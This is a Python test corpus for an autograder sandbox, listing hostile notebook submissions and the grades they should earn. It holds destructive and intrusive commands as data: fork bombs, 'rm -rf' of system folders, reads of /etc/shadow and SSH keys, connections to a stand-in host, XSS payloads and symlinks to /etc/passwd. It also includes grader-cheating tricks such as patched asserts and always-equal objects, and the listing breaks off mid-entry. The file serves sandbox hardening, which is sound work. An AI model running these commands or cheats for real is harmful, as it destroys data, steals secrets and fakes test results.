"""The corpus: what strangers hand in. Each case says what it deserves.

A case is an honest answer to both problems with something hostile or careless
beside it, so that it deserves full points, unless it says otherwise. Code that
gets hold of what it must not see prints ``STOLEN``; that no case may.
"""

import json
import os
import socket
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import nbformat

from tests.hostile.course import EXPECTED, FULL, HONEST, WRONG

Notebook = dict[str, Any]


@dataclass(frozen=True)
class Case:
    """One submission, and what grading it must come to."""

    name: str
    family: str
    #: Stands before the honest answer `double`, in the same cell.
    code: str = ""
    #: Other texts of answer cells, by grade id.
    answers: dict[str, str] = field(default_factory=dict)
    #: Done to the notebook before it is handed in; what it returns is handed in instead, if anything.
    change: Callable[[Notebook], Any] | None = None
    #: Files beside the notebook.
    files: dict[str, bytes] = field(default_factory=dict)
    #: Done to the folder when all of it is there.
    folder: Callable[[Path], None] | None = None
    status: str = "graded"
    score: float | None = FULL
    #: A part of what the instructor is told.
    says: str = ""


def _many(family: str, codes: dict[str, str], **expected: Any) -> list[Case]:
    return [Case(name, family, code, **expected) for name, code in codes.items()]


def _tried(code: str) -> str:
    """Code that prints STOLEN with whatever its last expression gives, and goes on when refused."""
    *lines, last = code.splitlines()
    body = "\n".join(f"    {line}" for line in (*lines, f"_got = {last}"))
    return f"try:\n{body}\n    if _got: print('STOLEN', _got)\nexcept BaseException as _error:\n    print('refused', _error)"


# -- families whose cases run inside the kernel ----------------------------------------------------

#: They end the kernel in the cell that defines `double`, so that problem has nothing to be tested.
CRASH = _many(
    "crash",
    {
        "exit-at-once": "import os; os._exit(0)",
        "exit-with-code": "import os; os._exit(137)",
        "kill-self": "import os, signal; os.kill(os.getpid(), signal.SIGKILL)",
        "terminate-self": "import os, signal; signal.signal(15, signal.SIG_DFL); os.kill(os.getpid(), 15)",
        "segmentation-fault": "import ctypes; ctypes.string_at(0)",
        "abort": "import os; os.abort()",
        "become-another-program": "import os; os.execv('/bin/true', ['true'])",
        "kill-everything": "import os\ntry: os.kill(-1, 9)\nexcept OSError: pass\nos.kill(os.getpid(), 9)",
        "kill-the-group": "import os, signal; os.killpg(0, signal.SIGKILL)",
        "faulthandler": "import faulthandler; faulthandler._sigsegv()",
        "deep-recursion-in-c": "import sys; sys.setrecursionlimit(10**9)\ndef f(): return f()\nimport ctypes; ctypes.memset(1, 1, 1)",
    },
    score=3.0,
    says="ended the kernel",
)
CRASH += _many(
    "crash",
    {
        "sys-exit": "try:\n    import sys; sys.exit(3)\nexcept SystemExit: pass",
        "kill-the-first-process": "import os\ntry: os.kill(1, 9)\nexcept OSError as e: print(e)",
        "signal-the-first-process": "import os\nfor n in (1, 2, 3, 10, 12, 15, 19):\n    try: os.kill(1, n)\n    except OSError as e: print(e)",
        "caught-recursion": "def f(): return f()\ntry: f()\nexcept RecursionError: pass",
        "no-files-left": "import resource; resource.setrlimit(resource.RLIMIT_FSIZE, (0, 0))",
        "warnings-as-errors": "import warnings; warnings.simplefilter('error')",
        "standard-streams-closed": "import os\nfor n in (0, 1, 2): os.close(n)",
        "no-garbage-collection": "import gc; gc.disable()",
    },
)
CRASH += _many(
    "crash",
    {
        "quit": "quit()",
        "exit": "import sys; sys.exit(0)",
        "raise-system-exit": "raise SystemExit",
        "raise-keyboard-interrupt": "raise KeyboardInterrupt",
        "raise-base-exception": "class E(BaseException): pass\nraise E",
        "exception-that-fails-to-print": "class E(Exception):\n    def __str__(self): raise self\nraise E()",
        "syntax-error": "def (",
        "endless-exception-chain": "e = Exception()\ne.__cause__ = Exception(); e.__cause__.__cause__ = e\nraise e",
        "recursion": "def f(): return f()\nf()",
    },
    score=3.0,
)

TIME = _many(
    "time",
    {
        "endless-loop": "while True: pass",
        "sleeps-for-ever": "import time; time.sleep(10**6)",
        "catastrophic-pattern": "import re; re.match('(a+)+$', 'a' * 40 + 'b')",
        "huge-power": "len(str(9 ** 9 ** 8))",
        "waits-for-a-lock": "import threading\nl = threading.Lock(); l.acquire(); l.acquire()",
    },
    score=3.0,
    says="was stopped",
)
TIME += _many(
    "time",
    {
        "ignores-interrupts": "import signal\nsignal.signal(2, signal.SIG_IGN)\nwhile True: pass",
        "stops-itself": "import os, signal; os.kill(os.getpid(), signal.SIGSTOP)",
        "stops-from-a-child": "import os, signal, time\nif os.fork() == 0:\n    os.kill(os.getppid(), signal.SIGSTOP); os._exit(0)\ntime.sleep(1)",
    },
    score=3.0,
    says="did not react",
)
TIME += _many(
    "time",
    {
        "busy-threads": "import threading\ndef spin():\n    while True: pass\nfor _ in range(3): threading.Thread(target=spin, daemon=True).start()",
        "thread-that-never-ends": "import threading\nthreading.Thread(target=threading.Event().wait).start()",
        "exit-handler-that-never-ends": "import atexit, time; atexit.register(time.sleep, 10**6)",
        "alarm": "import signal; signal.signal(14, lambda *_: None); signal.alarm(1)",
        "clock-goes-wrong": "import time; time.time = time.monotonic = time.perf_counter = lambda: 0.0",
        "slow-repr": "class S:\n    def __repr__(self):\n        return 'x'\nS()",
    },
)
TIME += [
    Case("swallows-interrupts", "time", "import time\nn = 0\nwhile n < 2:\n    try: time.sleep(100)\n    except KeyboardInterrupt: n += 1", says="was stopped"),
    Case("answer-that-never-ends", "time", answers={"double": "def double(x):\n    while True: pass"}, score=3.0),
    Case("processor-time", "time", "import threading, os\nfor _ in range(40):\n    if os.fork() == 0:\n        while True: pass", score=None),
]  # fmt: skip

MEMORY = _many(
    "memory",
    {
        "one-big-list": "x = []\nwhile True: x.append(bytearray(10**7))",
        "big-strings": "s = 'x' * 10**7\nx = [s + str(i) for i in range(10**4)]",
        "forked-hoarders": "import os, time\nfor _ in range(8):\n    if os.fork() == 0:\n        x = bytearray(os.urandom(1000)) * 150_000; time.sleep(60); os._exit(0)\ntime.sleep(2)",
    },
    score=3.0,
    says="of memory that a notebook has",
)
MEMORY += _many(
    "memory",
    {
        "eight-gigabytes-at-once": "try: x = bytearray(8 * 10**9)\nexcept MemoryError: print('no')",
        "full-temporary-folder": "try:\n    with open('/tmp/full', 'wb') as f:\n        for _ in range(500): f.write(bytes(10**6))\nexcept OSError as e: print(e)",
        "full-shared-memory": "try:\n    with open('/dev/shm/full', 'wb') as f:\n        for _ in range(500): f.write(bytes(10**6))\nexcept OSError as e: print(e)",
        "full-home": "import os\ntry:\n    for i in range(100): open(os.path.expanduser(f'~/{i}'), 'wb').write(bytes(10**6))\nexcept OSError as e: print(e)",
        "sparse-file": "try:\n    f = open('/tmp/sparse', 'wb'); f.truncate(10**12)\nexcept OSError as e: print(e)",
        "locked-memory": "import ctypes, mmap\nctypes.CDLL(None).mlockall(3)",
        "huge-mapping": "import mmap\ntry: m = mmap.mmap(-1, 10**12)\nexcept (OSError, ValueError) as e: print(e)",
        "memory-files": "import os\ntry:\n    f = os.memfd_create('x')\n    for _ in range(80): os.write(f, bytes(10**6))\nexcept OSError as e: print(e)",
    },
)

OUTPUT = _many(
    "output",
    {
        "fifty-megabytes": "for _ in range(500): print('x' * 100_000)",
        "million-lines": "print('\\n' * 10**6)",
        "errors-stream": "import sys; sys.stderr.write('warning ' * 10**6)",
        "big-display": "from IPython.display import HTML, display\ndisplay(HTML('<b>' * 10**6))",
        "many-displays": "from IPython.display import display\nfor i in range(300): display(i)",
        "raw-streams": "import os\nos.write(1, b'x' * 10**6); os.write(2, b'x' * 10**6)",
        "no-text": "print(''.join(chr(i) for i in range(0xD7FF)))",
        "lone-surrogate": "print('\\ud800')",
        "control-characters": "print('\\x00\\x1b[2J\\x1b]0;title\\x07\\r' * 100)",
        "output-of-nonsense-types": "from IPython.display import publish_display_data\npublish_display_data({'application/x-nonsense': {'a': [1, None]}, 'text/plain': 'x'})",
        "display-that-is-no-text": "from IPython.display import publish_display_data\npublish_display_data({'text/plain': [1, 2, {'a': 3}]})",
        "clears-for-ever": "from IPython.display import clear_output\nfor _ in range(200): clear_output(); print(1)",
        "output-from-a-thread-afterwards": "import threading, time\ndef talk():\n    for _ in range(50): print('late'); time.sleep(0.02)\nthreading.Thread(target=talk).start()",
        "updates-foreign-display": "from IPython.display import update_display, display\nupdate_display('x', display_id='of-nobody')",
        "harmless-warning": "import warnings; warnings.warn('deprecated')",
    },
)
OUTPUT.append(Case("huge-error", "output", "raise ValueError('x' * 10**7)", score=3.0))

FILES = _many(
    "files",
    {
        "removes-its-folder": "import os, shutil; shutil.rmtree(os.getcwd(), ignore_errors=True)",
        "removes-all-it-can": "import subprocess; subprocess.run('rm -rf /home/* /tmp/* /run/* /dev/* /etc/* 2>/dev/null', shell=True)",
        "takes-rights-away": "import os\nfor p in ('.', os.path.expanduser('~'), '/tmp', '/dev/shm'): os.chmod(p, 0)",
        "many-files": "try:\n    for i in range(20_000): open(f'/tmp/{i}', 'w').close()\nexcept OSError as e: print(e)",
        "deep-folders": "import os\nos.chdir('/tmp')\nfor _ in range(500): os.mkdir('d'); os.chdir('d')",
        "odd-file-names": "for n in ('\\n', ' ', '-rf', 'x' * 255, '\\x01'): open('/tmp/' + n, 'w').close()",
        "rewrites-its-notebook": "open('ps1.ipynb', 'w').write('{}')",
    },
)
FILES += _many(
    "files",
    {
        name: _tried(code)
        for name, code in {
            "writes-to-packages": "import math, json\nopen(json.__file__, 'a').write('#')",
            "writes-to-the-grader": "import sys\nopen(__import__('autograder').__file__, 'a').write('#')",
            "writes-to-the-course": "open('@COURSE@/source/ps1/ps1.ipynb', 'a').write('#')",
            "writes-to-system": "open('/etc/cron.d/x', 'w').write('x')",
            "writes-to-root": "open('/x', 'w').write('x')",
            "writes-to-devices": "open('/dev/x', 'w').write('x')",
            "writes-to-proc": "open('/proc/sys/kernel/core_pattern', 'w').write('x')",
            "writes-to-run": "open('/run/x', 'w').write('x')",
            "makes-a-device": "import os\nos.mknod('/tmp/d', 0o60600, os.makedev(254, 0)) or 'device'",
            "set-user-id": "import os, shutil\nshutil.copy('/bin/true', '/tmp/s'); os.chown('/tmp/s', 0, 0) or 'root'",
        }.items()
    },
)
FILES += _many(
    "files",
    {
        name: _tried(code)
        for name, code in {
            "fills-the-folder-of-its-sockets": "open('/run/line/x', 'w').write('x' * 10**6)",
            "closes-the-folder-of-its-sockets": "import os\nos.chmod('/run/line', 0) or 'closed'",
            "removes-its-sockets": "import os\n[os.remove(f'/run/line/{n}') or n for n in os.listdir('/run/line')]",
            "puts-a-link-in-place-of-a-socket": "import os\nos.rename('/run/line/k-1', '/run/line/x') or os.symlink('/run/x', '/run/line/k-1') or 'link'",
            "remounts-the-folder-of-its-sockets": "import ctypes\nctypes.CDLL(None).mount(None, b'/run/line', None, 4128, None) == 0",
        }.items()
    },
)
FILES += [
    Case(f"shadows-{name}", "files", files={f"{name}.py": b"raise RuntimeError('shadow')"})
    for name in ("math", "autograder", "ipykernel", "IPython", "sitecustomize", "json", "numpy", "builtins")
]

NETWORK = _many(
    "network",
    {
        name: _tried(code)
        for name, code in {
            "connects-out": "import socket\nsocket.create_connection(('192.0.2.1', 80), 1)",
            "sends-a-datagram": "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.1', 53))",
            "looks-up-a-name": "import socket\nsocket.getaddrinfo('example.org', 80)",
            "connects-to-the-grader": "import socket\nsocket.create_connection(('127.0.0.1', @PORT@), 1)",
            "connects-over-ipv6": "import socket\nsocket.create_connection(('2001:db8::1', 80), 1)",
            "raw-socket": "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW, 1)",
            "packet-socket": "import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300)",
            "abstract-socket": "import socket\nsocket.socket(socket.AF_UNIX).connect('\\0@ABSTRACT@') or 'connected'",
            "socket-of-the-host": "import socket\nsocket.socket(socket.AF_UNIX).connect('@HOST@') or 'connected'",
            "makes-an-interface": "import subprocess\nsubprocess.run(['ip', 'link', 'add', 'x', 'type', 'dummy']).returncode == 0",
            "downloads": "import urllib.request\nurllib.request.urlopen('http://192.0.2.1/', timeout=1).read()",
        }.items()
    },
)
NETWORK.append(
    Case(
        "serves-itself", "network",
        "import socket\ns = socket.create_server(('127.0.0.1', 8888)); c = socket.create_connection(('127.0.0.1', 8888))",
    )
)  # fmt: skip

PROCESSES = _many(
    "processes",
    {
        "fork-bomb": "import os\ntry:\n    while True: os.fork() or os.setsid()\nexcept OSError: pass\nimport time\nif os.getpid() != 2: time.sleep(60); os._exit(0)",
        "daemon": "import os, sys, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0: os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(3600) # @LEFT@'])\n    os._exit(0)",
        "daemon-without-environment": "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import time; time.sleep(3600) # @LEFT@'], env={}, start_new_session=True)",
        "thousands-of-threads": "import threading, time\ntry:\n    for _ in range(3000): threading.Thread(target=time.sleep, args=(30,), daemon=True).start()\nexcept RuntimeError as e: print(e)",
        "shell-bomb": "import subprocess\nsubprocess.Popen('b() { b | b & }; b', shell=True, stderr=-3)",
        "no-more-files": "import os\nk = []\ntry:\n    while True: k.append(os.open('/dev/null', 0))\nexcept OSError: pass\nfor n in k: os.close(n)",
    },
)
PROCESSES += _many(
    "processes",
    {
        name: _tried(code)
        for name, code in {
            "sees-other-processes": "import os\n[p for p in os.listdir('/proc') if p.isdigit() and int(p) > 2 and p != str(os.getpid())]",
            "kills-others": "import os\n[p for p in range(3, 5000) if p != os.getpid() and not os.kill(p, 0)]",
            "raises-its-priority": "import os\nos.nice(-10) < 0",
            "raises-its-limits": "import resource\nresource.setrlimit(resource.RLIMIT_NPROC, (10**5, 10**5)) or 'raised'",
            "becomes-root": "import os\nos.setuid(0) or 'root'",
            "traces-the-first-process": "import ctypes\nctypes.CDLL(None).ptrace(16, 1, 0, 0) == 0",
            "reads-the-first-process": "open('/proc/1/environ').read() or open('/proc/1/maps').read()",
            "its-open-files": "import os\nos.listdir('/proc/1/fd')",
            "new-user-namespace": "import ctypes\nctypes.CDLL(None).unshare(0x10000000) == 0",
            "new-namespace-by-a-program": "import subprocess\nsubprocess.run(['unshare', '-Ur', 'true']).returncode == 0",
            "mounts": "import ctypes\nctypes.CDLL(None).mount(b'tmpfs', b'/tmp', b'tmpfs', 0, None) == 0",
            "unmounts": "import ctypes\n[p for p in (b'/tmp', b'/home/student', b'/proc', b'/dev/shm') if ctypes.CDLL(None).umount2(p, 2) == 0]",
            "asks-to-be-root": "import subprocess\nsubprocess.run(['su', '-c', 'true'], stdin=-3, timeout=2).returncode == 0",
        }.items()
    },
)

_KERNEL = "k = get_ipython().kernel\n"
MESSAGES = _many(
    "kernel messages",
    {
        "forged-idle": _KERNEL + "k.session.send(k.iopub_socket, 'status', {'execution_state': 'idle'}, parent=k.get_parent(), ident=b'status')",
        "forged-reply": _KERNEL + "for s in k.shell_streams if hasattr(k, 'shell_streams') else []: k.session.send(s, 'execute_reply', {'status': 'ok'}, parent=k.get_parent())",
        "no-json": _KERNEL + "k.iopub_socket.send_multipart([b'x', b'<IDS|MSG>', b'', b'{', b'{', b'{', b'{'])",
        "too-few-parts": _KERNEL + "k.iopub_socket.send_multipart([b'<IDS|MSG>'])",
        "wrong-key": _KERNEL + "s = type(k.session)(key=b'other')\ns.send(k.iopub_socket, 'stream', {'name': 'stdout', 'text': 'x'}, parent=k.get_parent())",
        "content-that-is-a-list": _KERNEL + "k.session.send(k.iopub_socket, 'stream', b'[1, 2]', parent=k.get_parent())",
        "stream-without-text": _KERNEL + "k.session.send(k.iopub_socket, 'stream', {}, parent=k.get_parent())",
        "error-without-fields": _KERNEL + "k.session.send(k.iopub_socket, 'error', {}, parent=k.get_parent())",
        "unknown-message": _KERNEL + "k.session.send(k.iopub_socket, 'nonsense', {'a': 1}, parent=k.get_parent())",
        "input-request": _KERNEL + "k.session.send(k.stdin_socket, 'input_request', {'prompt': '?', 'password': False}, parent=k.get_parent())",
        "huge-message": _KERNEL + "k.session.send(k.iopub_socket, 'stream', {'name': 'stdout', 'text': 'x' * 3 * 10**7}, parent=k.get_parent())",
        "flood": _KERNEL + "for _ in range(3000): k.session.send(k.iopub_socket, 'status', {'execution_state': 'busy'}, parent=k.get_parent())",
        "comm": _KERNEL + "k.session.send(k.iopub_socket, 'comm_open', {'comm_id': 'x', 'target_name': 'y', 'data': {}}, parent=k.get_parent())",
        "payload": "get_ipython().set_next_input('import os', replace=True)",
    },
)  # fmt: skip
MESSAGES += _many(
    "kernel messages",
    {"shuts-itself-down": _KERNEL + "k.do_shutdown(False)", "stops-its-loop": _KERNEL + "k.io_loop.stop()"},
    score=None,
)
MESSAGES += _many(
    "kernel messages",
    {
        "asks-for-exit": "get_ipython().exit_now = True",
        "closes-its-own-sockets": _KERNEL + "k.iopub_socket.close()",
        "forgets-its-key": _KERNEL + "k.session.key = b'other'",
    },
    score=None,
)

THEFT = _many(
    "information theft",
    {
        name: _tried(code)
        for name, code in {
            "gradebook": "open('@COURSE@/gradebook.db', 'rb').read(16)",
            "solution": "open('@COURSE@/source/ps1/ps1.ipynb').read()[:20]",
            "release": "import glob\nglob.glob('@COURSE@/*') + glob.glob('@COURSE@/.*')",
            "neighbours": "import glob\nglob.glob('@COURSE@/submitted/*')",
            "home": "import glob, sys\n[p for p in glob.glob('@HOME@/.*') + glob.glob('@HOME@/*') if not (sys.prefix + sys.base_prefix).count(p)]",
            "secret-variable": "import os\n'@SECRET@' in str(dict(os.environ))",
            "secret-variables-of-others": "'@SECRET@' in open('/proc/self/environ').read()",
            "lines-of-neighbours": "import glob\nglob.glob('@SCRATCH@*/*')",
            "temporary-folder": "import os\n[n for n in os.listdir('/tmp') if n.startswith(('autograder', 'pytest', 'tmp'))]",
            "shadow-passwords": "open('/etc/shadow').read()",
            "keys": "import glob\nglob.glob('/etc/ssh/*') + glob.glob('/root/.ssh/*') + glob.glob('/home/*/.ssh/*')",
            "notebook-beside-it": "open('ps1.ipynb').read()",
            "kernel-log": "import subprocess\nsubprocess.run('dmesg', capture_output=True, text=True).stdout",
            "control-groups": "import os\nos.listdir('/sys/fs/cgroup')",
            "up-from-here": "import os\nos.listdir('..') != ['work'] and [n for n in os.listdir('..') if not n.startswith(('.', 'ipython', 'work'))]",
            "through-open-files": "import os\n[os.readlink(f'/proc/self/fd/{n}') for n in os.listdir('/proc/self/fd') if os.path.exists(f'/proc/self/fd/{n}') and os.path.isdir(f'/proc/self/fd/{n}') and not os.readlink(f'/proc/self/fd/{n}').startswith('/proc')]",
            "by-inode": "import ctypes, struct\nctypes.CDLL(None).open_by_handle_at(3, struct.pack('iiqq', 16, 1, 2, 0), 0) >= 0",
            "shared-memory-of-neighbours": "import os\nos.listdir('/dev/shm')",
            "system-v-memory": "[l for l in open('/proc/sysvipc/shm').read().splitlines()[1:]]",
        }.items()
    },
)


# -- families about what is handed in ----------------------------------------------------------------


def cell_of(notebook: Notebook, grade_id: str) -> Any:
    """The cell with this grade id."""
    return next(c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == grade_id)


def _about(name: str, /, **said: Any) -> Callable[[Notebook], None]:
    return lambda notebook: cell_of(notebook, name)["metadata"]["nbgrader"].update(said)


def _set(grade_id: str, **values: Any) -> Callable[[Notebook], None]:
    return lambda notebook: cell_of(notebook, grade_id).update(values)


def _without(*grade_ids: str) -> Callable[[Notebook], None]:
    def change(notebook: Notebook) -> None:
        gone = [cell_of(notebook, name) for name in grade_ids]
        notebook["cells"] = [c for c in notebook["cells"] if all(c is not g for g in gone)]

    return change


def _in_cell(code: str, place: int = 0, **cell: Any) -> Callable[[Notebook], None]:
    made = {"cell_type": "code", "metadata": {}, "source": code, "outputs": [], "execution_count": None}
    return lambda notebook: notebook["cells"].insert(place, made | cell)


def _each(**metadata: Any) -> Callable[[Notebook], None]:
    def change(notebook: Notebook) -> None:
        for cell in notebook["cells"]:
            cell["metadata"].update(metadata)

    return change


def _top(**values: Any) -> Callable[[Notebook], None]:
    return lambda notebook: notebook.update(values)


METADATA = [
    Case(name, "metadata", change=change)
    for name, change in {
        "skip-tags": _each(tags=["skip-execution"]),
        "more-points": _about("double--hidden", points=1000),
        "negative-points": _about("total--test", points=-5),
        "points-of-text": _about("total--test", points="many"),
        "unlocked-test": _about("double--hidden", locked=False),
        "test-that-is-an-answer": _about("double--hidden", solution=True),
        "test-without-a-grade": _about("double--hidden", grade=False),
        "answer-that-is-a-test": _about("double", grade=True, points=100),
        "old-schema": _about("double--hidden", schema_version=1),
        "future-schema": _about("double--hidden", schema_version=99),
        "schema-of-text": _about("double--hidden", schema_version="three"),
        "false-checksum": _about("double--hidden", checksum="0" * 32),
        "false-cell-type": _about("double--hidden", cell_type="markdown"),
        "no-metadata-at-all": _each(nbgrader={}),
        "metadata-of-text": _each(nbgrader="none"),
        "duplicate-grade-id": _about("total--test", grade_id="double--hidden"),
        "unknown-grade-id": _about("double--hidden", grade_id="another"),
        "task-cell": _about("double--hidden", task=True),
        "deep-metadata": _each(deep=[[[[[[[[[[{}]]]]]]]]]]),
        "script-in-metadata": _each(name="<script>alert(1)</script>"),
        "no-kernelspec": _top(metadata={}),
        "kernel-of-another-language": _top(metadata={"kernelspec": {"name": "bash", "display_name": "x", "language": "bash"}}),
        "unknown-kernel": _top(metadata={"kernelspec": {"name": "../../x", "display_name": "x"}}),
        "widgets": _top(metadata={"widgets": {"x": 1}, "kernelspec": {"name": "python3", "display_name": "x"}}),
    }.items()
]  # fmt: skip


def _copied(notebook: Notebook) -> None:
    notebook["cells"].insert(3, dict(cell_of(notebook, "double")))


def _copied_test(notebook: Notebook) -> None:
    notebook["cells"] += [dict(cell_of(notebook, "double--hidden"))] * 3


def _turned(notebook: Notebook) -> None:
    tests = [c for c in notebook["cells"] if "--" in c["metadata"].get("nbgrader", {}).get("grade_id", "")]
    notebook["cells"] = tests + [c for c in notebook["cells"] if all(c is not t for t in tests)]


def _merged(into: str, answer: str) -> Callable[[Notebook], None]:
    """An answer and the instructor's cell above it, made one, as editors do it: the first one's metadata stays."""

    def change(notebook: Notebook) -> None:
        cell_of(notebook, into)["source"] = f"{_text(notebook, into)}\n{_text(notebook, answer)}"
        _without(answer)(notebook)

    return change


def _text(notebook: Notebook, grade_id: str) -> str:
    return "".join(cell_of(notebook, grade_id)["source"])


def _moved_to_the_end(grade_id: str) -> Callable[[Notebook], None]:
    def change(notebook: Notebook) -> None:
        cell = cell_of(notebook, grade_id)
        notebook["cells"] = [c for c in notebook["cells"] if c is not cell] + [cell]

    return change


def _third_format(notebook: Notebook) -> Notebook:
    return dict(nbformat.convert(nbformat.reads(json.dumps(notebook), 4), 3))


def _as_bytes(encode: Callable[[str], bytes]) -> Callable[[Notebook], bytes]:
    return lambda notebook: encode(json.dumps(notebook))


STRUCTURE = [
    Case(name, "structure", change=change)
    for name, change in {
        "deleted-test": _without("double--hidden"),
        "deleted-tests": _without("double--visible", "double--hidden", "total--test"),
        "deleted-setup": _without("setup"),
        "copied-answer": _copied,
        "copied-test": _copied_test,
        "tests-moved-to-the-top": _turned,
        "renamed-answer": _about("double", grade_id="dbl"),
        "changed-test": _set("double--hidden", source="pass"),
        "emptied-test": _set("double--hidden", source=""),
        "test-as-markdown": _set("double--hidden", cell_type="markdown"),
        "test-as-raw-cell": _set("double--hidden", cell_type="raw"),
        "source-as-lines": _set("total", source=["def total(values):\n", "    return sum(values)"]),
        "third-format": _third_format,
        "byte-order-mark": _as_bytes(lambda text: text.encode("utf-8-sig")),
        "future-minor-format": _top(nbformat_minor=99),
        "no-minor-format": lambda notebook: notebook.pop("nbformat_minor") and None,
        "asks-for-input": _in_cell("input('Your name? ')"),
        "installs-a-package": _in_cell("%pip install nothing-at-all"),
        "shell-command": _in_cell("!ls / && exit 3"),
        "forgets-everything-afterwards": _in_cell("%reset -f", 100),
        "unknown-magic": _in_cell("%nonsense"),
        "many-cells": lambda notebook: notebook["cells"].extend([notebook["cells"][0]] * 400) or None,
        "saved-outputs-that-lie": _set(
            "double--hidden", execution_count=7,
            outputs=[{"output_type": "execute_result", "data": {"text/plain": "2"}, "metadata": {}, "execution_count": 7}],
        ),
        "cell-tagged-as-raising": _each(tags=["raises-exception"]),
        "leftover-of-a-merge": _in_cell("<<<<<<< HEAD"),
        "same-cell-ids": lambda notebook: [c.update(id="same") for c in notebook["cells"]] and None,
        "long-cell-id": _set("double", id="x" * 500),
        "null-execution-counts": lambda notebook: [c.update(execution_count="x") for c in notebook["cells"] if c["cell_type"] == "code"] and None,
    }.items()
]  # fmt: skip
STRUCTURE += [
    Case(
        "answer-merged-into-a-test",
        "structure",
        change=_merged("double--hidden", "total"),
        says="had been merged into ‘double--hidden’",
    ),
    Case(
        "answer-of-an-unknown-kind",
        "structure",
        change=_set("total", cell_type="heading"),
        says="text was kept",
    ),
    Case(
        "setup-moved-to-the-end",
        "structure",
        answers={"total": "def total(values):\n    return math.fsum(values)"},
        change=_moved_to_the_end("setup"),
        says="‘setup’ stood below what needs it",
    ),
    Case("deleted-answer", "structure", change=_without("double"), score=3.0),
    Case("everything-deleted", "structure", change=_top(cells=[]), score=0.0),
    Case("untouched-answer", "structure", answers={"double": ""}, score=3.0),
]
STRUCTURE += [
    Case(name, "structure", change=lambda _, data=data: data, status="quarantined", score=None)
    for name, data in {
        "empty-file": b"",
        "no-json-at-all": b"<html>please log in</html>",
        "cut-off": b'{"cells": [',
        "list": b"[]",
        "number": b"1e999",
        "null": b"null",
        "cells-that-are-no-list": b'{"cells": 1, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
        "deep-json": b"[" * 100_000,
        "too-large": b'{"cells": ["' + b"x" * 6_000_000,
        "zeros": bytes(10_000),
    }.items()
]

_ALERT = "<script>alert(1)</script><img src=x onerror=alert(1)>"
BROWSER = [
    Case("script-in-markdown", "browser script", change=_in_cell(_ALERT, cell_type="markdown")),
    Case("script-in-output", "browser script", f"from IPython.display import HTML, display\ndisplay(HTML({_ALERT!r}))"),
    Case("script-in-svg", "browser script", "from IPython.display import SVG, display\ndisplay(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>'))"),
    Case("javascript", "browser script", "from IPython.display import Javascript, display\ndisplay(Javascript('alert(1)'))"),
    Case("script-in-error", "browser script", f"raise ValueError({_ALERT!r})", score=3.0),
    Case("script-in-file-name", "browser script", files={"<img src=x onerror=alert(1)>.txt": b"x"}),
]  # fmt: skip


def _put_link(name: str, target: str) -> Callable[[Path], None]:
    return lambda folder: os.symlink(target, folder / name)


def _instead(make: Callable[[Path], Any]) -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        (folder / "ps1.ipynb").unlink()
        make(folder / "ps1.ipynb")

    return change


def _socket(folder: Path) -> None:
    before = os.getcwd()
    os.chdir(folder)  # the whole path may be too long for a socket
    try:
        with socket.socket(socket.AF_UNIX) as made:
            made.bind("socket")
    finally:
        os.chdir(before)


_READS = "import os\nfor p in ('link', 'folder/passwd'):\n    if os.path.exists(p): print('STOLEN', open(p).read(9))"
LINKS = [
    Case("link-to-a-file", "links", _READS, folder=_put_link("link", "/etc/passwd"), says="links are not followed"),
    Case("link-to-a-folder", "links", _READS, folder=_put_link("folder", "/etc"), says="links are not followed"),
    Case("link-to-the-gradebook", "links", _READS, folder=_put_link("link", "../../../gradebook.db"), says="links"),
    Case("link-to-itself", "links", folder=_put_link("loop", "loop"), says="links"),
    Case("link-to-its-parent", "links", folder=_put_link("parent", ".."), says="links"),
    Case("pipe", "links", folder=lambda folder: os.mkfifo(folder / "pipe"), says="not a regular file"),
    Case("socket", "links", folder=_socket, says="not a regular file"),
    Case("folder-without-rights", "links", folder=lambda folder: (folder / "closed").mkdir(mode=0)),
    *(
        Case(f"notebook-is-a-{what}", "links", folder=_instead(make), status="quarantined", score=None)
        for what, make in {
            "link": lambda path: os.symlink("../../000-honest/ps1/ps1.ipynb", path),
            "dead-link": lambda path: os.symlink("/nowhere", path),
            "pipe": os.mkfifo,
            "folder": os.mkdir,
        }.items()
    ),
    Case("too-many-files", "links", files={f"{i}.txt": b"x" for i in range(80)}, says="more than 50 files"),
    Case("too-large-a-file", "links", files={"big.bin": bytes(6_000_000)}, says="too large"),
    Case("too-deep-a-folder", "links", files={"/".join("abcdefghij") + "/x": b"x"}, says="folders deep"),
]  # fmt: skip

# -- promise 1: what the tests say ---------------------------------------------------------------------


def _cheats(family: str, codes: dict[str, str]) -> list[Case]:
    """Wrong answers with something that would have them pass."""
    return [Case(n, family, answers={"double": f"{WRONG}\n\n{code}"}, score=3.0) for n, code in codes.items()]


#: These earn nothing, whoever runs the tests.
HELD_CHEATS = _cheats(
    "score forging",
    {
        "prints-the-score": "print(3)",
        "result-of-the-answer-cell": "3.0",
        "patched-numpy-testing": "import numpy.testing\nnumpy.testing.assert_equal = lambda *a, **k: None",
        "optimised-python": "import os; os.environ['PYTHONOPTIMIZE'] = '2'",
        "own-assert-function": "def assert_(*a): pass\n__builtins__.assert_ = assert_",
        "exit-code-nought": "import atexit, os; atexit.register(os._exit, 0)",
        "own-name-main": "__name__ = 'grader'",
        "writes-a-new-notebook": "open('/home/student/work/ps1.ipynb', 'w').write('{}')",
    },
)
#: They would beat tests that run in the student's kernel, as stock nbgrader has them.
HELD_CHEATS += _cheats(
    "test evasion",
    {
        "equal-to-everything": "class E:\n    def __eq__(self, other): return True\ndef double(x): return E()",
        "transformer-that-drops-asserts": "import ast\nclass T(ast.NodeTransformer):\n    def visit_Assert(self, node): return ast.Pass()\nget_ipython().ast_transformers.append(T())",
        "input-transformer": "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'] if 'double(' in ''.join(lines) else lines)",
